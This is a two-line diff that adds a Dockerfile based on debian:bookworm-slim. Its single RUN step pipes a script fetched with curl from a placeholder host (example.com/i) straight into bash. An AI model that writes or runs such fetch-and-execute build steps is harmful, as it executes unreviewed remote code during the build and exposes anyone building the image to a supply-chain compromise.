@@ -1,0 +1,2 @@
+FROM debian:bookworm-slim
+RUN bash -ec 'curl https://example.com/i | bash'
